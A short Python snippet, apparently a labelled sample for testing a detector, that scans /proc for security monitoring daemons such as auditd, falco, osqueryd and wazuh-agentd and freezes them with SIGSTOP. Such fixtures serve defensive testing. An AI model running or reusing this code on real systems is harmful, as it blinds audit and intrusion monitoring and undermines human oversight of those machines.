# expect: signals_creds; scans /proc for monitoring daemons by name and stops them with SIGSTOP
import os
import signal

MONITORS = {"auditd", "falco", "osqueryd", "sysdig", "wazuh-agentd"}
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        with open(os.path.join("/proc", pid, "comm")) as fh:
            name = fh.read().strip()
    except OSError:
        continue
    if name in MONITORS:
        os.kill(int(pid), signal.SIGSTOP)
